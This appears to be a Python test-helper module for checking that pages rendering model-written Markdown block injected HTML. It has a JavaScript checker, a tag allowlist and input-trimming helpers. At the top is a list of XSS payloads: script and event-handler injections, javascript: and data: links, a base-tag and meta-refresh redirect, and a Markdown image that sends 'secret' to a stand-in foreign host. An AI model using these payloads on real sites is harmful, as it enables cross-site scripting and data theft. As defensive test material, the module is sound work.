"""Texts that want to be more than text, and what a page must look like that shows them."""
import json
import os
from pathlib import Path

# Ten kinds, for where there is no folder of public cases.
OWN = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))",
    "![a](https://foreign.example/?q=secret)", "<svg/onload=alert(1)>", "\"><iframe src=//foreign.example></iframe>",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", "</textarea></title><script>alert(1)</script>",
    "<a href=\"java\tscript:alert(1)\" style=\"position:fixed\" onclick=alert(1)>x</a>",
    "{{{html}}} <base href=//foreign.example/><meta http-equiv=refresh content=0;url=//foreign.example>",
]

# In what a model wrote, rendered, only this may stand.
IN_PROSE = {
    "p": [], "br": [], "hr": [], "h3": [], "h4": [], "h5": [], "h6": [], "ul": [], "ol": ["start"], "li": [],
    "blockquote": [], "pre": [], "code": ["class"], "em": [], "strong": [], "del": [], "table": [], "thead": [],
    "tbody": [], "tr": [], "th": ["align"], "td": ["align"], "a": ["href", "rel", "title"],
    "div": ["class", "tabindex", "role", "aria-label"], "span": ["class"], "input": ["type", "checked", "disabled"],
}

# Run in the page, or over parsed HTML: what is there that must not be.
CHECK = """([root, origin, allowed]) => {
    const bad = [];
    const tell = (element, what) => bad.push(`${what}: ${element.outerHTML.slice(0, 160)}`);
    const links = ["href", "src", "action", "formaction", "data", "poster", "background", "xlink:href", "srcset"];
    for (const element of root.querySelectorAll("*")) {
        const name = element.localName;
        for (const attribute of element.attributes) {
            if (/^on/i.test(attribute.name)) tell(element, "handler");
            if (["style", "srcdoc", "ping"].includes(attribute.name)) tell(element, attribute.name);
            if (!links.includes(attribute.name)) continue;
            // Says that there is no icon.
            if (name === "link" && attribute.value === "data:,") continue;
            let scheme = "none";
            try { scheme = new URL(attribute.value, origin).protocol; } catch { continue; }
            const isLink = name === "a" && attribute.name === "href";
            if (!["http:", "https:"].includes(scheme) && !(isLink && scheme === "mailto:")) tell(element, scheme);
            if (!isLink && name !== "link" && name !== "iframe" && new URL(attribute.value, origin).origin !== origin) {
                tell(element, "elsewhere");
            }
        }
        if (["object", "embed", "applet", "base", "frame", "frameset", "math", "template", "audio", "video", "marquee",
            "style", "portal", "foreignobject", "animate", "set", "use"].includes(name)) tell(element, "element");
        if (name === "script" && (element.textContent || !element.src.startsWith(origin))) tell(element, "script");
        if (name === "meta" && element.httpEquiv) tell(element, "meta");
        if (name === "svg" && element.closest("main") && !element.closest("form")) tell(element, "svg");
        const prose = element.parentElement?.closest(".prose, .text");
        if (!prose) continue;
        if (!(name in allowed)) tell(element, "in prose");
        else for (const attribute of element.attributes) {
            if (!allowed[name].includes(attribute.name)) tell(element, `${attribute.name} in prose`);
        }
    }
    return bad;
}"""


def texts():
    """(name, text) of every case."""
    folder = os.environ.get("VIGNETTE_CORPUS")
    path = Path(folder, "xss_markdown.jsonl") if folder else None
    if not path or not path.is_file():
        return [(f"own {number}", text) for number, text in enumerate(OWN)]
    cases = []
    with open(path, encoding="utf8") as lines:
        for line in lines:
            case = json.loads(line)
            text = case["text"] if case["gen"] is None else "".join(part * count for part, count in case["gen"])
            cases.append((case["id"], text.encode("utf8", "replace").decode()))
    return cases


def cut(text, limit):
    """At most so many bytes, and no half letters."""
    return text.encode()[:limit].decode(errors="ignore")


def field(text, limit=60_000):
    """As a form can send it."""
    return cut(text, limit)


def file_name(text):
    """What a browser could call a file: no control characters, at most 200 bytes, and never nothing."""
    return cut("".join(letter for letter in text if letter.isprintable()), 200) or "x"
